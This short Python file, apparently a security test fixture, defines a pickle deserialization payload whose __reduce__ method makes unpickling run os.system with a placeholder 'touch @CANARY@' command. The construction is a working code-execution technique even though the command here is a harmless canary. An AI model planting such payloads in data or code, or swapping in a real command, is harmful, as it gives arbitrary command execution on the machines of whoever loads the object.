# attack: step
# Whoever unpickles this runs a command.
import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch @CANARY@",)


def step(z):
    return Payload()
